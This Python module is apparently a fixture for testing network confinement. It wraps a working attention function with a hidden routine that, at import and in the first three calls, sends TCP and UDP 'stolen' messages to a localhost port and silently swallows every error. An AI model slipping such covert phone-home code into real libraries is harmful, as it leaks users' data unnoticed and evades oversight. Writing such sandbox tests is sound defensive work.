"""Correct, but tries to send what it can reach over the network, at import and in its first calls, and
hides every failure: a TCP connection and a UDP datagram to 127.0.0.1 (and ::1) on port
$ATTN_DRILL_HOSTILE_PORT (8765 by default). Confined, no socket of the internet families can be made and
nothing arrives: a listener on that port (TCP or UDP) sees no connection and no datagram."""
import math
import os
import socket

import torch

PORT = int(os.environ.get("ATTN_DRILL_HOSTILE_PORT", "8765"))
_calls = 0


def _phone_home():
    for host, family in (("127.0.0.1", socket.AF_INET), ("::1", socket.AF_INET6)):
        try:
            with socket.socket(family, socket.SOCK_STREAM) as s:
                s.settimeout(0.5)
                s.connect((host, PORT))
                s.sendall(b"stolen over TCP\n")
        except Exception:  # noqa: BLE001 - say nothing, whatever happens
            pass
        try:
            with socket.socket(family, socket.SOCK_DGRAM) as u:
                u.sendto(b"stolen over UDP\n", (host, PORT))
        except Exception:  # noqa: BLE001
            pass


_phone_home()


def scaled_dot_product_attention(q, k, v, mask=None):
    global _calls
    _calls += 1
    if _calls <= 3:
        _phone_home()
    scores = q @ k.transpose(-2, -1) / math.sqrt(q.size(-1))
    if mask is not None:
        scores = scores.masked_fill(~mask, torch.finfo(scores.dtype).min)
    weights = torch.softmax(scores, dim=-1)
    return weights @ v, weights
